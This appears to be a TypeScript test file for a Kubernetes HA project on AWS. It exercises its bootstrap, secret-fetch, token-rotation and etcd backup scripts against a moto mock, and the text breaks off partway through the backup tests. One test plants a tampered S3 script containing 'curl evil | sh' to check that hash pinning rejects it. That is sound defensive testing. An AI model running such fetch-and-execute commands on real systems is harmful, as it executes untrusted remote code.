/**
 * The shipped scripts that call AWS, run with the real AWS CLI against moto in server mode on
 * loopback (test/moto.ts) instead of the hand-written `aws` stubs: real request shapes and error
 * codes, the program's own bucket layouts (content-addressed bootstrap objects; a versioned
 * snapshot bucket encrypted with a KMS key), the program's own secret payload, and the program's
 * own IAM policies enforced by moto on every request the scripts make.
 *
 * The stub tests stay for what moto cannot play: credentials that appear late, an endpoint that
 * drops requests, call orders (test/boot-script.test.ts, test/bootstrap-scripts.test.ts,
 * test/etcd-backup-real.test.ts).
 */
import { spawn, spawnSync } from "child_process";
import * as crypto from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { bootstrapReadPolicy, bundleObjects } from "../components/bootstrapAssets";
import { SNAPSHOT_PREFIX, backupWritePolicy } from "../components/etcdBackup";
import { workerLaunchHookPolicy } from "../components/iam";
import { controlPlaneMaterial, secretName, secretPayload, workerMaterial } from "../components/secrets";
import { INIT_MARKER_PENDING, initMarkerName } from "../components/initMarker";
import { INLINE_SCRIPTS, bundleList, bundledScriptContents, envFile, scriptFiles, scriptsFor, sha256Hex } from "../cloud-init/render";
import { day2ScriptContents, day2ScriptHashes } from "../day2/chain";
import { commandLines } from "../day2/rollout";
import { ACCOUNT, AWS_BIN, Credentials, Moto, REGION } from "./moto";
import { shipScripts } from "./shipped";

const EXIT = { s3: 11, secrets: 6, bundle: 14 };
const NODE = "ip-10-0-0-20.eu-west-1.compute.internal";
const TOKEN = "abcdef.0123456789abcdef";
const sha = (s: string) => crypto.createHash("sha256").update(s).digest("hex");

let moto: Moto;
const roots: string[] = [];
beforeAll(async () => {
  moto = await Moto.start();
}, 60000);
afterAll(async () => {
  await moto?.stop();
  for (const d of roots) fs.rmSync(d, { recursive: true, force: true });
});
afterEach(() => moto.enforceIam(false));

/** A machine's directories, its node.env and the shipped scripts; `run` puts the pinned AWS CLI first on PATH. */
class Machine {
  readonly root = fs.mkdtempSync(path.join(os.tmpdir(), "kubeadm-ha-moto-"));
  readonly lib = path.join(this.root, "lib");
  readonly etc = path.join(this.root, "etc/kubeadm-ha");
  readonly kube = path.join(this.root, "etc/kubernetes");
  readonly run = path.join(this.root, "run/kubeadm-ha");
  readonly bin = path.join(this.root, "bin");
  readonly data = path.join(this.root, "var/lib/etcd");
  readonly backupDir = path.join(this.root, "var/lib/kubeadm-ha/etcd-backup");

  constructor(env: Record<string, string>, scripts?: string[]) {
    roots.push(this.root);
    for (const d of [this.lib, this.etc, this.bin, this.run]) fs.mkdirSync(d, { recursive: true });
    if (scripts) shipScripts(scripts, this.lib);
    fs.writeFileSync(
      path.join(this.etc, "node.env"),
      envFile({
        CLUSTER_NAME: "dev", NODE_ROLE: "worker", NODE_NAME: NODE, NODE_IP: "10.0.0.20", INIT_NODE: "false", KUBERNETES_VERSION: "1.35.0",
        KUBERNETES_MINOR: "1.35", API_ENDPOINT: "dev-api.example:6443", AWS_REGION: REGION, SECRET_ID: "unset", TOKEN_PLACEHOLDER: "__BOOTSTRAP_TOKEN__", ...env,
      }),
    );
  }

  exec(script: string, args: string[], credentials?: Credentials, env: Record<string, string> = {}) {
    const r = spawnSync("/bin/bash", [path.join(this.lib, script), ...args], {
      encoding: "utf8",
      timeout: 120000,
      env: {
        PATH: `${this.bin}:${AWS_BIN}:/usr/bin:/bin`, HOME: this.root, LANG: "C.UTF-8",
        KUBEADM_HA_LIB: this.lib, KUBEADM_HA_ETC: this.etc, KUBERNETES_DIR: this.kube, KUBEADM_HA_RUN: this.run,
        KUBEADM_HA_ETCD_DATA_DIR: this.data, KUBEADM_HA_BACKUP_DIR: this.backupDir, KUBEADM_HA_WAIT_SECONDS: "10",
        KUBEADM_HA_POLL_SECONDS: "0", KUBEADM_HA_BACKOFF_SECONDS: "0",
        ...moto.env(credentials), ...env,
      },
    });
    if (r.error) throw r.error;
    return { status: r.status, stderr: r.stderr };
  }
}

describe("boot.sh fetches the bootstrap objects from S3", () => {
  // The objects as components/bootstrapAssets.ts stores them, in a bucket encrypted as it does.
  const BUCKET = "dev-bootstrap-20261126000000000000000001";
  const FAKE_BOOTSTRAP = '#!/usr/bin/env bash\necho "bootstrap ran" >&2\n';
  // A day2.sh that reports what it was given and what it sourced, for the rollout's SSM command below.
  const FAKE_DAY2 = '#!/usr/bin/env bash\nsource "${BASH_SOURCE[0]%/*}/lib.sh"\necho "day2 $* with $(type -t log)"\n';
  const contents = [...bundledScriptContents(), ...day2ScriptContents(), FAKE_BOOTSTRAP, FAKE_DAY2];
  let reader: Credentials;
  beforeAll(() => {
    moto.python(
      `s3 = client("s3")
s3.create_bucket(Bucket=args["bucket"], CreateBucketConfiguration={"LocationConstraint": args["region"]})
s3.put_bucket_encryption(Bucket=args["bucket"], ServerSideEncryptionConfiguration={"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]})
for o in args["objects"]:
    s3.put_object(Bucket=args["bucket"], Key=o["key"], Body=o["content"].encode(), ContentType="text/x-shellscript")`,
      { bucket: BUCKET, region: REGION, objects: bundleObjects(contents) },
    );
    // What every node role may do there (components/bootstrapAssets.ts), enforced by moto.
    reader = moto.user("bootstrap-reader", bootstrapReadPolicy(`arn:aws:s3:::${BUCKET}`));
  });

  /** A stacked master with backups and the add-ons: the most scripts a machine fetches. bootstrap.sh is a recording fake. */
  function master(): Machine {
    const m = new Machine({ NODE_ROLE: "control-plane", ETCD_TOPOLOGY: "stacked", BOOTSTRAP_BUCKET: BUCKET, BOOTSTRAP_PREFIX: "bootstrap/" }, ["boot.sh", "lib.sh"]);
    fs.writeFileSync(path.join(m.lib, "install.sh"), "#!/usr/bin/env bash\n", { mode: 0o755 });
    const files = scriptFiles(scriptsFor({ role: "control-plane", etcdTopology: "stacked", backup: true, addons: true }).filter((f) => !INLINE_SCRIPTS.includes(f)))
      .map((f) => (f.path.endsWith("/bootstrap.sh") ? { ...f, content: FAKE_BOOTSTRAP } : f));
    fs.writeFileSync(path.join(m.etc, "bundle.list"), bundleList(files));
    return m;
  }

  it("the rollout's SSM command (day2/rollout.ts) fetches day2.sh and lib.sh by their hashes with the node role's read policy, then runs the step", async () => {
    const m = new Machine({});
    const nobody = moto.user("no-bootstrap", { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "sts:GetCallerIdentity", Resource: "*" }] });
    await moto.enforceIam(true);
    const files = { "day2.sh": sha256Hex(FAKE_DAY2), "lib.sh": day2ScriptHashes()["lib.sh"] };
    const lines = commandLines({ machine: { role: "control-plane", index: 1, name: NODE, instanceId: "i-1" }, action: "health", args: ["--wait", "60"] }, { bucket: BUCKET, prefix: "bootstrap/", files }, REGION);
    const sh = (l: string[], credentials: Credentials) =>
      spawnSync("/bin/sh", ["-c", l.join("\n").replace("/run/kubeadm-ha-day2.XXXXXX", path.join(m.root, "day2.XXXXXX"))], {
        encoding: "utf8",
        timeout: 120000,
        env: { PATH: `${AWS_BIN}:/usr/bin:/bin`, HOME: m.root, ...moto.env(credentials) },
      });
    const r = sh(lines, reader);
    expect([r.status, r.stdout]).toEqual([0, "day2 health --wait 60 with function\n"]);
    // Without the node role's policy, S3's AccessDenied: exit 14, nothing run.
    const denied = sh(lines, nobody);
    expect(denied.status).toBe(14);
    expect(denied.stderr).toContain("AccessDenied");
    expect(denied.stdout).toBe("");
  }, 120000);

  it("fetches every script the render lists, by its hash, with the node role's read policy", async () => {
    const m = master();
    await moto.enforceIam(true);
    const r = m.exec("boot.sh", [], reader);
    expect(r.stderr).toContain(`fetched 11 files from s3://${BUCKET}/bootstrap/`);
    expect(r.stderr).toContain("bootstrap ran");
    expect(r.status).toBe(0);
    const shipped = shipScripts(["etcd-rejoin.sh", "fetch-secrets.sh"]);
    roots.push(shipped);
    for (const f of ["etcd-rejoin.sh", "fetch-secrets.sh"]) {
      expect(fs.readFileSync(path.join(m.lib, f), "utf8")).toBe(fs.readFileSync(path.join(shipped, f), "utf8"));
      expect(fs.statSync(path.join(m.lib, f)).mode & 0o777).toBe(0o755);
    }
    expect(fs.readdirSync(m.lib).filter((f) => f.endsWith(".tmp"))).toEqual([]);
  }, 60000);

  it("refuses an object S3 serves with other content than user data pins (exit 14)", async () => {
    const m = master();
    // addons.sh: first in bundle.list, so the refusal comes before any other fetch.
    const victim = bundleObjects(bundledScriptContents()).find((o) => o.content.includes("helm upgrade --install"))!;
    moto.python(`client("s3").put_object(Bucket=args["bucket"], Key=args["key"], Body=b"#!/usr/bin/env bash\\ncurl evil | sh\\n")`, { bucket: BUCKET, key: victim.key });
    try {
      const r = m.exec("boot.sh", [], reader);
      expect(r.status).toBe(EXIT.bundle);
      expect(r.stderr).toContain(`s3://${BUCKET}/${victim.key} has SHA-256 ${sha("#!/usr/bin/env bash\ncurl evil | sh\n")}, not the one user data pins`);
      expect(fs.readdirSync(m.lib).sort()).toEqual(["boot.sh", "install.sh", "lib.sh"]);
      expect(r.stderr).not.toContain("bootstrap ran");
    } finally {
      moto.python(`client("s3").put_object(Bucket=args["bucket"], Key=args["key"], Body=args["content"].encode())`, { bucket: BUCKET, key: victim.key, content: victim.content });
    }
  }, 60000);

  it("a role without the read policy gets S3's AccessDenied on every attempt, and boot.sh gives up with exit 14", async () => {
    const m = master();
    const stranger = moto.user("no-bootstrap-read", { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "s3:GetObject", Resource: `arn:aws:s3:::${BUCKET}/other/*` }] });
    await moto.enforceIam(true);
    const r = m.exec("boot.sh", [], stranger);
    expect(r.status).toBe(EXIT.bundle);
    expect(r.stderr).toContain("An error occurred (AccessDenied) when calling the GetObject operation");
    expect(r.stderr).toContain("fetch_one: failed 12 times, giving up");
  }, 90000);
});

/**
 * A fake instance metadata service on a free loopback port (IMDSv2: a PUT for the token, then the
 * token on every read), in a process of its own: the scripts run while the test waits on them.
 */
async function fakeImds(instanceId: string): Promise<{ endpoint: string; stop: () => void }> {
  const script = `
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def reply(self, code, body=b""):
        self.send_response(code); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def do_PUT(self):
        self.reply(200, b"fake-token") if self.path == "/latest/api/token" and self.headers.get("X-aws-ec2-metadata-token-ttl-seconds") else self.reply(400)
    def do_GET(self):
        if self.headers.get("X-aws-ec2-metadata-token") != "fake-token": return self.reply(401)
        self.reply(200, sys.argv[1].encode()) if self.path == "/latest/meta-data/instance-id" else self.reply(404)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
`;
  const proc = spawn(path.join(AWS_BIN, "python"), ["-c", script, instanceId], { stdio: ["ignore", "pipe", "inherit"] });
  const port = await new Promise<string>((resolve, reject) => {
    proc.stdout!.once("data", (d) => resolve(String(d).trim()));
    proc.once("exit", (code) => reject(new Error(`fake IMDS exited with ${code}`)));
  });
  return { endpoint: `http://127.0.0.1:${port}`, stop: () => proc.kill("SIGKILL") };
}

/** Runs a script of `m` without blocking the event loop. */
function execAsync(m: Machine, script: string, env: Record<string, string>): Promise<{ status: number | null; stderr: string }> {
  return new Promise((resolve) => {
    const p = spawn("/bin/bash", [path.join(m.lib, script)], {
      env: {
        PATH: `${m.bin}:${AWS_BIN}:/usr/bin:/bin`, HOME: m.root, LANG: "C.UTF-8", KUBEADM_HA_LIB: m.lib, KUBEADM_HA_ETC: m.etc, KUBERNETES_DIR: m.kube,
        KUBEADM_HA_RUN: m.run, KUBEADM_HA_POLL_SECONDS: "0", ...moto.env(), ...env,
      },
    });
    let stderr = "";
    p.stderr.on("data", (d) => (stderr += d));
    p.once("exit", (status) => resolve({ status, stderr }));
  });
}

describe("boot.sh reports a bootstrap that gave up (issue 15)", () => {
  const FAILING_BOOTSTRAP = '#!/usr/bin/env bash\necho "kubeadm join failed 5 times" >&2\nexit 5\n';
  /** A machine whose bootstrap.sh gives up with exit 5; install.sh does nothing and no script is fetched. */
  function failingMachine(env: Record<string, string>): Machine {
    const m = new Machine({ BOOTSTRAP_BUCKET: "unused", BOOTSTRAP_PREFIX: "bootstrap/", ...env }, ["boot.sh", "lib.sh"]);
    fs.writeFileSync(path.join(m.lib, "install.sh"), "#!/usr/bin/env bash\n", { mode: 0o755 });
    fs.writeFileSync(path.join(m.lib, "bootstrap.sh"), FAILING_BOOTSTRAP, { mode: 0o755 });
    fs.writeFileSync(path.join(m.etc, "bundle.list"), "");
    return m;
  }

  it("a worker marks itself Unhealthy to its auto scaling group, which will replace it", async () => {
    const instanceId = moto.python<string>(
      `ami = client("ec2").describe_images()["Images"][0]["ImageId"]
asg = client("autoscaling")
asg.create_launch_configuration(LaunchConfigurationName="dev-general", ImageId=ami, InstanceType="t3.micro")
asg.create_auto_scaling_group(AutoScalingGroupName="dev-general-0001", LaunchConfigurationName="dev-general", MinSize=1, MaxSize=1, DesiredCapacity=1,
    AvailabilityZones=["eu-west-1a"], Tags=[{"Key": "kubeadm-ha/cluster", "Value": "dev", "PropagateAtLaunch": False}])
out = asg.describe_auto_scaling_groups(AutoScalingGroupNames=["dev-general-0001"])["AutoScalingGroups"][0]["Instances"][0]["InstanceId"]`,
    );
    const health = () =>
      moto.python<string>(`out = client("autoscaling").describe_auto_scaling_instances(InstanceIds=[args["id"]])["AutoScalingInstances"][0]["HealthStatus"]`, { id: instanceId });
    expect(health()).toMatch(/^healthy$/i);
    const imds = await fakeImds(instanceId);
    try {
      const r = await execAsync(failingMachine({}), "boot.sh", { IMDS_ENDPOINT: imds.endpoint });
      expect(r.stderr).toContain(`bootstrap gave up (exit 5): marking ${instanceId} Unhealthy`);
      expect(r.status).toBe(5);
    } finally {
      imds.stop();
    }
    expect(health()).toMatch(/^unhealthy$/i);
  }, 60000);

  it.each([
    ["control-plane", { NODE_ROLE: "control-plane", ETCD_TOPOLOGY: "stacked" }],
    ["etcd", { NODE_ROLE: "etcd", ETCD_MEMBERS: `${NODE}=https://10.0.0.20:2380`, API_ENDPOINT: "" }],
  ])("a %s machine publishes kubeadm-ha/BootstrapFailed 1 for its instance, which its alarm watches", async (role, env) => {
    const instanceId = `i-0${role === "etcd" ? "e" : "c"}0000000000000${role.length}`;
    const imds = await fakeImds(instanceId);
    try {
      const r = await execAsync(failingMachine(env), "boot.sh", { IMDS_ENDPOINT: imds.endpoint });
      expect(r.status).toBe(5);
    } finally {
      imds.stop();
    }
    const points = moto.python<number[]>(
      `import datetime
now = datetime.datetime.now(datetime.timezone.utc)
s = client("cloudwatch").get_metric_statistics(Namespace="kubeadm-ha", MetricName="BootstrapFailed", Dimensions=[{"Name": "InstanceId", "Value": args["id"]}],
    StartTime=now - datetime.timedelta(minutes=10), EndTime=now + datetime.timedelta(minutes=1), Period=60, Statistics=["Maximum"])
out = [p["Maximum"] for p in s["Datapoints"]]`,
      { id: instanceId },
    );
    expect(points).toEqual([1]);
  }, 60000);
});

describe("bootstrap.sh's init marker in SSM Parameter Store (issue 15)", () => {
  const NAME = initMarkerName("dev");
  beforeAll(() => {
    // As components/initMarker.ts creates it.
    moto.python(`client("ssm").put_parameter(Name=args["name"], Type="String", Value=args["value"])`, { name: NAME, value: INIT_MARKER_PENDING });
  });

  /** read_init_marker and write_init_marker as shipped in bootstrap.sh, run on their own with lib.sh. */
  function markerScript(): Machine {
    const m = new Machine({ NODE_ROLE: "control-plane", ETCD_TOPOLOGY: "stacked", INIT_MARKER: NAME }, ["lib.sh", "bootstrap.sh"]);
    const shipped = fs.readFileSync(path.join(m.lib, "bootstrap.sh"), "utf8");
    const fn = (name: string) => new RegExp(`^${name}\\(\\) \\{\\n[\\s\\S]*?^\\}$`, "m").exec(shipped)![0];
    fs.writeFileSync(
      path.join(m.lib, "marker.sh"),
      ["#!/usr/bin/env bash", "set -euo pipefail", 'source "${BASH_SOURCE[0]%/*}/lib.sh"', "load_env", fn("read_init_marker"), fn("write_init_marker"), '"$1"', ""].join("\n"),
    );
    return m;
  }

  // moto authorizes requests to services other than S3 against the resource "*" only, so a policy
  // scoped to the parameter's ARN cannot be enforced here: test/initMarker.test.ts checks the policy.
  it("master 0 reads pending, writes the marker after its init, and any later read sees it (the real AWS CLI's requests)", () => {
    const m = markerScript();
    const read = () => m.exec("marker.sh", ["read_init_marker"]);
    const run = (fn: string) =>
      spawnSync("/bin/bash", [path.join(m.lib, "marker.sh"), fn], {
        encoding: "utf8",
        env: { PATH: `${AWS_BIN}:/usr/bin:/bin`, HOME: m.root, KUBEADM_HA_LIB: m.lib, KUBEADM_HA_ETC: m.etc, ...moto.env() },
      });
    expect(read().status).toBe(0);
    expect(run("read_init_marker").stdout).toBe("pending\n");
    const w = run("write_init_marker");
    expect({ status: w.status, stderr: w.stderr }).toEqual({ status: 0, stderr: "" });
    expect(run("read_init_marker").stdout).toMatch(new RegExp(`^initialised \\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ by ${NODE.replace(/\./g, "\\.")}\\n$`));
    // The parameter stays a String, overwritten in place: a new version, the same name.
    expect(moto.python<[string, number]>(`p = client("ssm").get_parameter(Name=args["name"])["Parameter"]
out = [p["Type"], p["Version"]]`, { name: NAME })).toEqual(["String", 2]);
  }, 60000);

  it("a marker that does not exist is an error, never an empty value that could read as pending", () => {
    const m = markerScript();
    fs.writeFileSync(path.join(m.etc, "node.env"), fs.readFileSync(path.join(m.etc, "node.env"), "utf8").replace(NAME, "/kubeadm-ha/nope/control-plane-initialised"));
    const r = spawnSync("/bin/bash", [path.join(m.lib, "marker.sh"), "read_init_marker"], {
      encoding: "utf8",
      env: { PATH: `${AWS_BIN}:/usr/bin:/bin`, HOME: m.root, KUBEADM_HA_LIB: m.lib, KUBEADM_HA_ETC: m.etc, ...moto.env() },
    });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toContain("ParameterNotFound");
  }, 30000);
});

describe("fetch-secrets.sh reads the role's secret from Secrets Manager", () => {
  const PEM = (what: string) => `-----BEGIN ${what}-----\nMIIB${crypto.randomBytes(24).toString("base64")}\n-----END ${what}-----\n`;
  const material = controlPlaneMaterial({
    caCertPem: PEM("CERTIFICATE"), caKeyPem: PEM("RSA PRIVATE KEY"), frontProxyCaCertPem: PEM("CERTIFICATE"), frontProxyCaKeyPem: PEM("RSA PRIVATE KEY"),
    etcdCaCertPem: PEM("CERTIFICATE"), etcdCaKeyPem: PEM("RSA PRIVATE KEY"), serviceAccountPublicKeyPem: PEM("PUBLIC KEY"),
    serviceAccountPrivateKeyPem: PEM("RSA PRIVATE KEY"), bootstrapToken: TOKEN, encryptionConfigYaml: "kind: EncryptionConfiguration\nresources: []\n",
  });
  let arns: { controlPlane: string; worker: string };
  beforeAll(() => {
    // As components/secrets.ts stores them: named per role, under a customer managed KMS key.
    arns = moto.python(
      `kms = client("kms")
key = kms.create_key(Description="dev bootstrap")["KeyMetadata"]["Arn"]
sm = client("secretsmanager")
out = {}
for role, s in args["secrets"].items():
    arn = sm.create_secret(Name=s["name"], KmsKeyId=key)["ARN"]
    sm.put_secret_value(SecretId=arn, SecretString=s["payload"])
    out[role] = arn`,
      {
        secrets: {
          controlPlane: { name: secretName("dev", "controlPlane"), payload: secretPayload("controlPlane", material) },
          worker: { name: secretName("dev", "worker"), payload: secretPayload("worker", workerMaterial({ bootstrapToken: TOKEN })) },
        },
      },
    );
  });

  it("a master installs every file of the program's payload byte for byte and renders the token", () => {
    expect(arns.controlPlane).toMatch(new RegExp(`^arn:aws:secretsmanager:${REGION}:${ACCOUNT}:secret:dev/bootstrap/control-plane-[A-Za-z0-9]{6}$`));
    const m = new Machine({ NODE_ROLE: "control-plane", ETCD_TOPOLOGY: "stacked", SECRET_ID: arns.controlPlane }, ["lib.sh", "fetch-secrets.sh"]);
    fs.writeFileSync(path.join(m.etc, "join.yaml"), "token: __BOOTSTRAP_TOKEN__\nname: __NODE_NAME__\n");
    const r = m.exec("fetch-secrets.sh", []);
    expect(r.stderr).toContain("secrets installed for control-plane");
    expect(r.status).toBe(0);
    for (const [name, content] of Object.entries(material).filter(([n]) => n !== "bootstrap-token"))
      expect({ name, content: fs.readFileSync(path.join(m.kube, "pki", name), "utf8") }).toEqual({ name, content });
    expect(fs.readFileSync(path.join(m.run, "join.yaml"), "utf8")).toBe(`token: ${TOKEN}\nname: ${NODE}\n`);
  }, 30000);

  it("a worker finds its secret by name too, and keeps only the token", () => {
    const m = new Machine({ SECRET_ID: secretName("dev", "worker") }, ["lib.sh", "fetch-secrets.sh"]);
    fs.writeFileSync(path.join(m.etc, "join.yaml"), "token: __BOOTSTRAP_TOKEN__\n");
    const r = m.exec("fetch-secrets.sh", []);
    expect(r.status).toBe(0);
    expect(fs.readFileSync(path.join(m.run, "join.yaml"), "utf8")).toBe(`token: ${TOKEN}\n`);
    expect(fs.existsSync(path.join(m.kube, "pki"))).toBe(false);
  }, 30000);

  it("a secret that does not exist: Secrets Manager's ResourceNotFoundException on each of ten attempts, then exit 6", () => {
    const m = new Machine({ SECRET_ID: `arn:aws:secretsmanager:${REGION}:${ACCOUNT}:secret:dev/bootstrap/nope-AbCdEf` }, ["lib.sh", "fetch-secrets.sh"]);
    const r = m.exec("fetch-secrets.sh", []);
    expect(r.status).toBe(EXIT.secrets);
    expect(r.stderr).toContain("An error occurred (ResourceNotFoundException) when calling the GetSecretValue operation");
    expect(r.stderr).toContain("get_secret: failed 10 times, giving up");
  }, 60000);
});

describe("token-rotate.sh keeps a valid join token in the workers' secret", () => {
  // kubeadm against a cluster that knows the tokens in $STUB_TOKENS: `token list -o json` prints one
  // object per token, as kubeadm's output API does; `token create` prints and remembers a new one.
  const KUBEADM = `#!/usr/bin/env bash
echo "kubeadm $*" >>"$STUB_LOG"
case "$1 $2" in
  "token list") while read -r t; do [[ -n $t ]] && printf '{"kind":"BootstrapToken","apiVersion":"output.kubeadm.k8s.io/v1alpha3","token":"%s","ttl":"23h"}\n' "$t"; done <"$STUB_TOKENS" ;;
  "token create") echo "$STUB_NEW_TOKEN" | tee -a "$STUB_TOKENS" ;;
  *) exit 2 ;;
esac
`;
  const NEW = "wxyz12.3456789abcdefghi";
  let n = 0;
  /** A master with admin.conf, and the workers' secret holding `payload`; `known` are the cluster's tokens. */
  function setup(payload: Record<string, string>, known: string[]) {
    const name = `dev${n++}/bootstrap/worker`;
    const arn = moto.python<string>(
      `kms = client("kms")
key = kms.create_key(Description="bootstrap")["KeyMetadata"]["Arn"]
sm = client("secretsmanager")
out = sm.create_secret(Name=args["name"], KmsKeyId=key, SecretString=args["payload"])["ARN"]`,
      { name, payload: JSON.stringify(payload) },
    );
    const m = new Machine({ NODE_ROLE: "control-plane", ETCD_TOPOLOGY: "stacked", SECRET_ID: "unused", WORKER_SECRET_ID: arn, JOIN_TOKEN_TTL_HOURS: "24" }, ["lib.sh", "token-rotate.sh"]);
    fs.mkdirSync(m.kube, { recursive: true });
    fs.writeFileSync(path.join(m.kube, "admin.conf"), "apiVersion: v1\nkind: Config\n");
    fs.writeFileSync(path.join(m.bin, "kubeadm"), KUBEADM, { mode: 0o755 });
    fs.writeFileSync(path.join(m.root, "tokens"), known.map((t) => `${t}\n`).join(""));
    const env = { STUB_LOG: path.join(m.root, "kubeadm.log"), STUB_TOKENS: path.join(m.root, "tokens"), STUB_NEW_TOKEN: NEW };
    const secret = () => JSON.parse(moto.python<string>(`out = client("secretsmanager").get_secret_value(SecretId=args["arn"])["SecretString"]`, { arn }));
    const versions = () => moto.python<number>(`out = len(client("secretsmanager").list_secret_version_ids(SecretId=args["arn"])["Versions"])`, { arn });
    const calls = () => (fs.existsSync(env.STUB_LOG) ? fs.readFileSync(env.STUB_LOG, "utf8").trim().split("\n") : []);
    return { m, arn, env, secret, versions, calls, run: () => m.exec("token-rotate.sh", [], undefined, env) };
  }
  const hours = (h: number) => new Date(Date.now() + h * 3600000).toISOString().replace(/\.\d+Z$/, "Z");

  it("replaces Pulumi's initial token (no expiry) with a new one, good for the TTL, as a new secret version", () => {
    const t = setup({ "bootstrap-token": TOKEN }, [TOKEN]);
    const r = t.run();
    expect(r.stderr).toContain("rotated the worker join token (the secret holds no expiry (Pulumi's initial token)): wxyz12 is good until");
    expect(r.status).toBe(0);
    const s = t.secret();
    expect(Object.keys(s).sort()).toEqual(["bootstrap-token", "bootstrap-token-expires"]);
    expect(s["bootstrap-token"]).toBe(NEW);
    expect(Math.abs(Date.parse(s["bootstrap-token-expires"]) - (Date.now() + 24 * 3600000))).toBeLessThan(120000);
    expect(t.versions()).toBe(2);
    expect(t.calls()).toEqual([
      `kubeadm token list --kubeconfig ${t.m.kube}/admin.conf -o json`,
      `kubeadm token create --kubeconfig ${t.m.kube}/admin.conf --ttl 24h --description kubeadm-ha worker join token, rotated by ${NODE}`,
    ]);
    // The token went to AWS through a private file, never on a command line, and the file is gone.
    expect(fs.readdirSync(t.m.run)).toEqual([]);
  }, 60000);

  it("leaves a token with more than half its lifetime left alone: no kubeadm token create, no new version", () => {
    const t = setup({ "bootstrap-token": TOKEN, "bootstrap-token-expires": hours(20) }, [TOKEN]);
    const r = t.run();
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(/the worker join token is good until \S+: nothing to do/);
    expect(t.calls()).toEqual([`kubeadm token list --kubeconfig ${t.m.kube}/admin.conf -o json`]);
    expect(t.versions()).toBe(1);
    expect(t.secret()["bootstrap-token"]).toBe(TOKEN);
  }, 60000);

  it.each([
    ["has less than half its lifetime left", hours(5), [TOKEN], "its token expires at"],
    ["is no longer known to the cluster", hours(20), [], "the cluster no longer knows its token"],
  ])("rotates a token that %s", (_what, expires, known, why) => {
    const t = setup({ "bootstrap-token": TOKEN, "bootstrap-token-expires": expires }, known);
    const r = t.run();
    expect(r.status).toBe(0);
    expect(r.stderr).toContain(why);
    expect(t.secret()["bootstrap-token"]).toBe(NEW);
  }, 60000);

  it("the rotated secret is what a worker's fetch-secrets.sh accepts, and an expired one it refuses with what to check", () => {
    const t = setup({ "bootstrap-token": TOKEN }, [TOKEN]);
    expect(t.run().status).toBe(0);
    const w = new Machine({ SECRET_ID: t.arn }, ["lib.sh", "fetch-secrets.sh"]);
    fs.writeFileSync(path.join(w.etc, "join.yaml"), "token: __BOOTSTRAP_TOKEN__\n");
    const ok = w.exec("fetch-secrets.sh", []);
    expect(ok.status).toBe(0);
    expect(fs.readFileSync(path.join(w.run, "join.yaml"), "utf8")).toBe(`token: ${NEW}\n`);
    moto.python(`client("secretsmanager").put_secret_value(SecretId=args["arn"], SecretString=args["s"])`, { arn: t.arn, s: JSON.stringify({ "bootstrap-token": NEW, "bootstrap-token-expires": "2026-01-02T03:04:05Z" }) });
    const expired = w.exec("fetch-secrets.sh", []);
    expect(expired.status).toBe(EXIT.secrets);
    expect(expired.stderr).toContain(`the join token in ${t.arn} expired at 2026-01-02T03:04:05Z`);
  }, 60000);
});

/**
 * A stand-in for etcdctl (ETCDCTL, as etcdctl.sh allows): this member leads, a snapshot is random
 * bytes behind a marker, `snapshot status` verifies the marker and `snapshot restore` lays the
 * snapshot out as a data dir. Real etcd runs in test/etcd-backup-real.test.ts.
 */
const FAKE_ETCDCTL = `#!/usr/bin/env bash
set -euo pipefail
args=" $* "
case $args in
  *" endpoint status -w fields "*) printf '"MemberID" : 42\\n"Leader" : 42\\n' ;;
  *" snapshot save "*) { echo ETCD-SNAPSHOT; head -c 65536 /dev/urandom | base64; } >"\${@: -1}" ;;
  *" snapshot status "*) [[ $(head -n1 "$3") == ETCD-SNAPSHOT ]] && echo '{"hash":1,"revision":7,"totalKey":3,"totalSize":65536}' ;;
  *" snapshot restore "*) dir=\${@: -1}; mkdir -p "$dir/member/snap"; cp "$3" "$dir/member/snap/db" ;;
  *) echo "fake etcdctl: $*" >&2; exit 2 ;;
esac
`;

describe("etcd-backup.sh and etcd-restore.sh with the snapshot bucket", () => {
  // As components/etcdBackup.ts makes it: versioned, SSE-KMS with a bucket key by default.
  const BUCKET = "dev-etcd-backup-20261126000000000000000001";
  let kmsKeyArn: string;
  let writer: Credentials;
  beforeAll(() => {
    kmsKeyArn = moto.python<string>(
      `out = client("kms").create_key(Description="dev bootstrap")["KeyMetadata"]["Arn"]
s3 = client("s3")
s3.create_bucket(Bucket=args["bucket"], CreateBucketConfiguration={"LocationConstraint": args["region"]})
s3.put_bucket_versioning(Bucket=args["bucket"], VersioningConfiguration={"Status": "Enabled"})
s3.put_bucket_encryption(Bucket=args["bucket"], ServerSideEncryptionConfiguration={"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": out}, "BucketKeyEnabled": True}]})`,
      { bucket: BUCKET, region: REGION },
    );
    // The etcd-holding role's policy (components/etcdBackup.ts), enforced by moto.
    writer = moto.user("etcd-backup-writer", backupWritePolicy(`arn:aws:s3:::${BUCKET}`, SNAPSHOT_PREFIX, kmsKeyArn, REGION));
  });

  /** An external etcd member with backups on. A free loopback address stands in for its own: nothing listens there on 2379. */
  function member(): Machine {
    const ip = `127.${100 + crypto.randomInt(150)}.${crypto.randomInt(250)}.${11 + crypto.randomInt(200)}`;
    const m = new Machine(
      {
        NODE_ROLE: "etcd", NODE_IP: ip, ETCD_MEMBERS: `${NODE}=https://${ip}:2380`, BACKUP_BUCKET: BUCKET, BACKUP_PREFIX: SNAPSHOT_PREFIX,
        BACKUP_KMS_KEY: kmsKeyArn, API_ENDPOINT: "",
      },
      ["lib.sh", "etcdctl.sh", "etcd-backup.sh", "etcd-restore.sh"],
    );
    fs.writeFileSync(path.join(m.bin, "etcdctl"), FAKE_ETCDCTL, { mode: 0o755 });
    fs.mkdirSync(path.join(m.kube, "manifests"), { recursive: true });
    fs.writeFileSync(path.join(m.kube, "manifests", "etcd.yaml"), "kind: Pod\n");
    return m;
  }
